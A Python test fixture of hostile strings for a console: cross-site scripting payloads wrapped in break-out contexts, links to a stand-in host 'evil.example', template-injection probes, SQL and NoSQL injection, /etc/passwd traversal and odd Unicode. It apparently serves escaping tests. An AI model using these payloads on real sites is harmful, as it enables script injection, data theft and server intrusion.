"""Hostile and odd strings, written for the console: mark-up, templates, attributes, Unicode.

Each is made by putting a payload into a place where sloppy pages would run it.
"""

from __future__ import annotations

STRIKE = "window.__struck=1"

_PAYLOADS = (
    f"<script>{STRIKE}</script>",
    f"<ScRiPt >{STRIKE}</sCrIpT >",
    f"<script/x>{STRIKE}</script>",
    f"<script src=data:text/javascript,{STRIKE}></script>",
    f"<img src=x onerror={STRIKE}>",
    f"<img src=x onerror=\n{STRIKE}>",
    f"<image href=x onerror={STRIKE}>",
    f"<svg onload={STRIKE}>",
    f"<svg><script>{STRIKE}</script></svg>",
    f"<svg><animate onbegin={STRIKE} attributeName=x dur=1s>",
    f"<body onload={STRIKE}>",
    f"<details open ontoggle={STRIKE}>x</details>",
    f"<iframe srcdoc='<script>parent.{STRIKE}</script>'>",
    f"<iframe src=javascript:parent.{STRIKE}>",
    f"<object data=javascript:{STRIKE}>",
    f"<embed src=javascript:{STRIKE}>",
    f"<a href=javascript:{STRIKE} autofocus onfocus={STRIKE}>x</a>",
    f"<input autofocus onfocus={STRIKE}>",
    f"<video><source onerror={STRIKE}></video>",
    f"<math><mtext><script>{STRIKE}</script></mtext></math>",
    f"<template><script>{STRIKE}</script></template>",
    f"<div hx-get=/ hx-trigger=load hx-on:htmx:before:request={STRIKE}>",
    f"<b hx-on:load='{STRIKE}'>",
    f"<div data-hx-on:click='{STRIKE}'>x</div>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import url(https://evil.example/x.css)</style>",
    "<style>*{background:url(https://evil.example/x)}</style>",
    "<form action=https://evil.example/><button>x</button></form>",
    "<img src=https://evil.example/pixel.gif>",
    "<hx-partial hx-target=body>x</hx-partial>",
    "<div id=main hx-swap-oob=true>x</div>",
    "{{ 7*7 }}",
    "{{ config }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    f"javascript:{STRIKE}",
    f"JaVaScRiPt&colon;{STRIKE}",
    f"data:text/html,<script>{STRIKE}</script>",
    "&lt;b&gt;&amp;amp;&#60;script&#62;",
    "event: live-alert\ndata: {}\n\n",
)
_AROUND = (
    "{}",
    '">{}',
    "'>{}",
    "</title>{}",
    "</textarea>{}",
    "</option></select>{}",
    "--></style></script>{}",
)
_ODD = (
    "",
    " ",
    "\u200b",
    "\ufeffbegins with a mark",
    "\u202etfel ot thgir\u202c",
    "\u2066isolated\u2069",
    "e" + "\u0301" * 60,
    "Z̶̢̛a̸l̷g̶o̵",
    "👩‍👩‍👧‍👦 🏳️‍🌈 🇨🇳",
    "﷽" * 20,
    "طباعة من اليمين إلى اليسار ١٢٣",
    "田中さんにあげて下さい",
    "ﾟ･✿ヾ╲(｡◕‿◕｡)╱✿･ﾟ",
    "İstanbul ıI",
    "ǅ ǆ ß ẞ",
    "1/0 NaN Infinity -0 1e400 0x7f",
    "null undefined None true",
    "' OR 1=1 --",
    '{"$gt": ""}',
    "$where: sleep(1)",
    "../../../../etc/passwd",
    "C:\\con\\nul",
    "%s%n%x {0} %(x)s",
    "a" * 5000,
    "长" * 3000,
    "nospacesanywhere" * 100,
    "line\nbreak\r\nand\ttab",
    "\x07\x1b[31mred",
    "﹤script﹥＜script＞",
    "ＡＢＣ①②③",
)

STRINGS: tuple[str, ...] = (
    *(
        around.format(payload) if "{}" in around else payload
        for payload in _PAYLOADS
        for around in _AROUND
    ),
    *_ODD,
)
